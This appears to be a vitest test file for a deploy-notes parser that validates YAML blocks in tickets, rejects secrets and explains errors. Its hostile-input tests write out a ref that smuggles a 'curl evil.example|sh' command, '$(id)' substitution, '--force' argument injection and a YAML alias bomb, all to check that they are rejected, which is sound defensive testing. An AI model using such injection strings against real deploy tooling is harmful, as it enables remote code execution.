import { describe, expect, it } from 'vitest';
import { parseDeployNotes } from '../../src/gate/parse-deploy-notes.js';
import { FAKE } from './fake-secrets.js';

const FIX = 'Fix the `deploy` block in the description; opsbeat reads it again on its next heartbeat.';
const HEAD = 'opsbeat is holding this ticket: its deploy notes cannot be used.';
const block = (yaml: string, before = 'Ship it.'): string => `${before}\n\n\`\`\`deploy\n${yaml}\n\`\`\`\n\nThanks!`;

function failure(body: string): { reason: string; line: number | undefined; message: string } {
  const result = parseDeployNotes(body);
  if (result.ok) throw new Error('expected the notes to be rejected');
  return { reason: result.reason, line: result.line, message: result.message };
}

describe('parseDeployNotes: valid notes', () => {
  it('reads every field, with defaults and flags as text', () => {
    const result = parseDeployNotes(
      block(
        [
          'app: hotdash-staging            # which configured app',
          'ref: 3f9c2e1',
          'env: [STRIPE_WEBHOOK_SECRET]',
          'migrations: |',
          '  create table picker_payments (id bigint primary key);',
          'flags: { NEW_CHECKOUT: "on", RATIO: 1.50, DARK: true }',
          'dependencies: true',
          'smoke: [{ path: /api/tiles, status: 200, maxMs: 3000 }, { path: /health }]',
        ].join('\n'),
      ),
    );
    expect(result).toEqual({
      ok: true,
      notes: {
        app: 'hotdash-staging',
        ref: '3f9c2e1',
        env: ['STRIPE_WEBHOOK_SECRET'],
        migrations: 'create table picker_payments (id bigint primary key);\n',
        flags: { NEW_CHECKOUT: 'on', RATIO: '1.50', DARK: 'true' },
        dependencies: true,
        smoke: [
          { path: '/api/tiles', status: 200, maxMs: 3000 },
          { path: '/health', status: 200, maxMs: 3000 },
        ],
        line: 4,
      },
    });
  });

  it('keeps a numeric-looking ref as written', () => {
    const result = parseDeployNotes(block('app: hotdash\nref: 0123456'));
    expect(result.ok && result.notes.ref).toBe('0123456');
  });

  it('accepts ~~~deploy fences, indented fences and a single env name', () => {
    const result = parseDeployNotes('Notes:\n  ~~~deploy\n  app: hotdash\n  ref: v1.2.3\n  env: DATABASE_URL\n  ~~~\n');
    expect(result).toMatchObject({ ok: true, notes: { app: 'hotdash', ref: 'v1.2.3', env: ['DATABASE_URL'], line: 3 } });
  });

  it('ignores a deploy example inside another code block', () => {
    const example = 'How to write notes:\n\n````markdown\n```deploy\napp: example\nref: abc1234\n```\n````\n';
    expect(parseDeployNotes(`${example}\n\`\`\`deploy\napp: hotdash\nref: 3f9c2e1\n\`\`\``)).toMatchObject({
      ok: true,
      notes: { app: 'hotdash', line: 11 },
    });
  });
});

describe('parseDeployNotes: what the author sees', () => {
  it('has no block', () => {
    expect(failure('Ship the checkout.\n\n```yaml\napp: hotdash\n```')).toEqual({
      reason: 'notes_missing',
      line: undefined,
      message:
        'opsbeat is holding this ticket: the description has no deploy notes.\n\n' +
        'Add a fenced block with the info string `deploy` to the description, for example:\n\n' +
        '````\n```deploy\napp: hotdash-staging\nref: 3f9c2e1\n```\n````\n\n' +
        'opsbeat reads it again on its next heartbeat.',
    });
  });

  it('has a YAML syntax error: the line is quoted', () => {
    expect(failure(block('app: hotdash\nref: "3f9c2e1\nenv: []'))).toEqual({
      reason: 'notes_invalid',
      line: 5,
      message: `${HEAD}\n\nLine 5 of the description:\n\n\`\`\`\nref: "3f9c2e1\n\`\`\`\n\nThis is not valid YAML (Missing closing "quote). Check the indentation and the quotes; a value containing \`: \` or \` #\` needs quotes.\n\n${FIX}`,
    });
  });

  it('has an unknown key: did you mean', () => {
    expect(failure(block('app: hotdash\nref: 3f9c2e1\nflag: { A: "on" }'))).toEqual({
      reason: 'notes_invalid',
      line: 6,
      message: `${HEAD}\n\nLine 6 of the description:\n\n\`\`\`\nflag: { A: "on" }\n\`\`\`\n\n\`flag\` is not a deploy-notes key; did you mean \`flags\`?\n\n${FIX}`,
    });
  });

  it('has an unknown key with no near miss: the keys are listed', () => {
    expect(failure(block('app: hotdash\nref: 3f9c2e1\nowner: dave')).message).toBe(
      `${HEAD}\n\nLine 6 of the description:\n\n\`\`\`\nowner: dave\n\`\`\`\n\n` +
        '`owner` is not a deploy-notes key; the keys are `app`, `ref`, `env`, `migrations`, `flags`, `dependencies` and `smoke`.' +
        `\n\n${FIX}`,
    );
  });

  it('has a bad app name', () => {
    expect(failure(block('app: Hotdash_Staging\nref: 3f9c2e1'))).toEqual({
      reason: 'notes_invalid',
      line: 4,
      message: `${HEAD}\n\nLine 4 of the description:\n\n\`\`\`\napp: Hotdash_Staging\n\`\`\`\n\n\`app\` must be the name of a configured app: lowercase letters, digits and dashes, e.g. \`app: hotdash-staging\`.\n\n${FIX}`,
    });
  });

  const REF_RULE =
    '`ref` must be a commit SHA or an image tag: letters, digits, `.`, `_` and `-`, starting with a letter or digit, with no spaces or `/`, e.g. `ref: 3f9c2e1`.';

  it.each([
    ['a leading dash', 'ref: --force'],
    ['spaces', 'ref: 3f9c2e1 --build-arg X=1'],
    ['shell metacharacters', 'ref: "3f9c2e1;curl evil.example|sh"'],
    ['a slash', 'ref: feature/checkout'],
    ['command substitution', 'ref: $(id)'],
  ])('has a ref with %s', (_name, line) => {
    expect(failure(block(`app: hotdash\n${line}`))).toEqual({
      reason: 'notes_invalid',
      line: 5,
      message: `${HEAD}\n\nLine 5 of the description:\n\n\`\`\`\n${line}\n\`\`\`\n\n${REF_RULE}\n\n${FIX}`,
    });
  });

  it('has no ref', () => {
    expect(failure(block('app: hotdash'))).toEqual({
      reason: 'notes_invalid',
      line: 3,
      message: `${HEAD}\n\nLine 3 of the description: \`ref\` is missing: add the commit or image tag to ship, e.g. \`ref: 3f9c2e1\`.\n\n${FIX}`,
    });
  });

  const SECRET_ADVICE =
    'opsbeat does not deploy a ticket that holds a secret, and does not repeat the value anywhere. ' +
    'Remove it from the ticket, then rotate it: everyone who can read this board may have seen it. ' +
    'Secrets belong on the app (`fly secrets set`); the deploy notes list only their names under `env:`.';

  it('has a secret value in env (NAME=value): the value is never repeated', () => {
    const value = 'whsec-live-Zq81xR';
    const result = failure(block(`app: hotdash\nref: 3f9c2e1\nenv:\n  - STRIPE_WEBHOOK_SECRET=${value}`));
    expect(result).toEqual({
      reason: 'secret_in_ticket',
      line: 7,
      message:
        'opsbeat is holding this ticket: it contains what looks like a secret.\n\n' +
        '- line 7 of the description: a value for `STRIPE_WEBHOOK_SECRET` under `env:` (list the name only)\n\n' +
        SECRET_ADVICE,
    });
    expect(result.message).not.toContain(value);
  });

  it('has an unclosed flow list: the line that opened it is quoted', () => {
    expect(failure(block('app: hotdash\nref: 3f9c2e1\nenv: [STRIPE_KEY\ndependencies: true')).message).toBe(
      `${HEAD}\n\nLine 6 of the description:\n\n\`\`\`\nenv: [STRIPE_KEY\n\`\`\`\n\n` +
        'This is not valid YAML (Flow sequence in block collection must be sufficiently indented and end with a ]). ' +
        `Check the indentation and the quotes; a value containing \`: \` or \` #\` needs quotes.\n\n${FIX}`,
    );
  });

  it('has env written as a map of values', () => {
    const result = failure(block('app: hotdash\nref: 3f9c2e1\nenv: { API_PASS: hunter22 }'));
    expect(result.reason).toBe('secret_in_ticket');
    expect(result.message).toContain('- line 6 of the description: a value for `API_PASS` under `env:` (list the name only)');
    expect(result.message).not.toContain('hunter22');
  });

  it('has a token-shaped string in the block: held, and the line is not quoted', () => {
    const result = failure(block(`app: hotdash\nref: 3f9c2e1\nflags: { GH: ${FAKE.github} }`));
    expect(result).toEqual({
      reason: 'secret_in_ticket',
      line: 6,
      message: `opsbeat is holding this ticket: it contains what looks like a secret.\n\n- line 6 of the description: a GitHub token\n\n${SECRET_ADVICE}`,
    });
    expect(result.message).not.toContain(FAKE.github);
  });

  it('has a smoke path without "/"', () => {
    expect(failure(block('app: hotdash\nref: 3f9c2e1\nsmoke:\n  - path: api/tiles\n    stauts: 200'))).toEqual({
      reason: 'notes_invalid',
      line: 7,
      message:
        `${HEAD}\n\nLine 7 of the description:\n\n\`\`\`\n  - path: api/tiles\n\`\`\`\n\n` +
        'a smoke `path` must start with `/`, e.g. `path: /api/tiles`.\n\n' +
        `Line 8 of the description:\n\n\`\`\`\n    stauts: 200\n\`\`\`\n\n\`stauts\` is not a smoke check key; did you mean \`status\`?\n\n${FIX}`,
    });
  });

  it('has a flag Fly reserves (FLY_…): held, never passed to fly deploy', () => {
    expect(failure(block('app: hotdash\nref: 3f9c2e1\nflags: { FLY_REGION: ams }'))).toEqual({
      reason: 'notes_invalid',
      line: 6,
      message:
        `${HEAD}\n\nLine 6 of the description:\n\n\`\`\`\nflags: { FLY_REGION: ams }\n\`\`\`\n\n` +
        'flag names are letters, digits and `_`, starting with a letter or `_` and not with `FLY_` (Fly reserves those), e.g. `NEW_CHECKOUT`.\n\n' +
        FIX,
    });
  });

  it('lists every problem, one quote per line', () => {
    const message = failure(block('app: hotdash\nref: 3f9c2e1\nenv: [stripe key]\ndependencies: yes\nflags: { bad-name: [1] }')).message;
    expect(message).toBe(
      `${HEAD}\n\n` +
        'Line 6 of the description:\n\n```\nenv: [stripe key]\n```\n\n`env` lists secret names only: capital letters, digits and `_`, e.g. `STRIPE_WEBHOOK_SECRET`.\n\n' +
        'Line 7 of the description:\n\n```\ndependencies: yes\n```\n\n`dependencies` must be `true` or `false`.\n\n' +
        'Line 8 of the description:\n\n```\nflags: { bad-name: [1] }\n```\n\n' +
        'flag names are letters, digits and `_`, starting with a letter or `_` and not with `FLY_` (Fly reserves those), e.g. `NEW_CHECKOUT`.\n\n' +
        FIX,
    );
  });

  it('has a block that is never closed', () => {
    expect(failure('Ship it.\n```deploy\napp: hotdash\nref: 3f9c2e1\n')).toEqual({
      reason: 'notes_invalid',
      line: 2,
      message: `${HEAD}\n\nLine 2 of the description:\n\n\`\`\`\`\n\`\`\`deploy\n\`\`\`\`\n\nThe \`deploy\` block that starts here is never closed: add a line with \`\`\` after its last line.\n\n${FIX}`,
    });
  });

  it('has two blocks', () => {
    expect(failure(`${block('app: a\nref: b1')}\n${block('app: c\nref: d1')}`)).toEqual({
      reason: 'notes_invalid',
      line: 3,
      message: `${HEAD}\n\nLine 3 of the description: The description has 2 \`deploy\` blocks (lines 3 and 11): keep one.\n\n${FIX}`,
    });
  });

  it('has an empty block, or one that is not key: value lines', () => {
    expect(failure(block('')).message).toBe(
      `${HEAD}\n\nLine 3 of the description: The \`deploy\` block is empty: add at least \`app:\` and \`ref:\`, e.g. \`app: hotdash-staging\` and \`ref: 3f9c2e1\` on two lines.\n\n${FIX}`,
    );
    expect(failure(block('- app: hotdash')).message).toBe(
      `${HEAD}\n\nLine 4 of the description:\n\n\`\`\`\n- app: hotdash\n\`\`\`\n\nThe \`deploy\` block must hold \`key: value\` lines, e.g. \`app: hotdash-staging\` and \`ref: 3f9c2e1\` on two lines.\n\n${FIX}`,
    );
  });
});

describe('parseDeployNotes: hostile input', () => {
  it('refuses to expand an alias bomb', () => {
    const bomb = ['app: hotdash', 'ref: 3f9c2e1', 'a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (const name of 'bcdefgh') bomb.push(`${name}: &${name} [${Array(9).fill(`*${String.fromCharCode(name.charCodeAt(0) - 1)}`).join(',')}]`);
    const result = parseDeployNotes(block(bomb.join('\n')));
    expect(result).toMatchObject({ ok: false, reason: 'notes_invalid', line: 3 });
  });
});
